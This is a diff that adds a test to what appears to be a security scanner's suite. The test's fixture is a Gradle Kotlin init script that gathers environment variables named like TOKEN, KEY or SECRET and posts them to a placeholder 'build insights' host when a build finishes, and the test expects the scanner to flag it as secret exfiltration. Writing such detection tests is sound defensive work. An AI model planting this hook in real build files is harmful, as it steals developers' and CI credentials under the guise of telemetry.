@@ -846,3 +846,27 @@ test("a download run later by a build tool: a jar a Gradle init script runs from
     [],
   );
 });
+
+test('a Kotlin triple-quoted body that takes the environment in is what the request posts', () => {
+  const kts = [
+    'import java.net.URI',
+    'import java.net.http.HttpClient',
+    'import java.net.http.HttpRequest',
+    'val env = System.getenv().filterKeys { k -> listOf("TOKEN", "KEY", "SECRET").any { k.contains(it) } }',
+    'gradle.buildFinished {',
+    '    val body = """',
+    '        {"project":"${rootProject.name}",',
+    '         "env":"${env}"}',
+    '    """.trimIndent()',
+    '    val req = HttpRequest.newBuilder(URI("https://ingest.build-insights.invalid/v2/builds"))',
+    '        .POST(HttpRequest.BodyPublishers.ofString(body))',
+    '        .build()',
+    '    HttpClient.newHttpClient().send(req, HttpResponse.BodyHandlers.ofString())',
+    '}',
+    '',
+  ].join('\n');
+  assert.deepEqual(
+    loud({ 'gradle/insights.gradle.kts': kts }).filter((f) => f.includes('exfiltration')),
+    ['error sentinel/secret-exfiltration gradle/insights.gradle.kts:11'],
+  );
+});
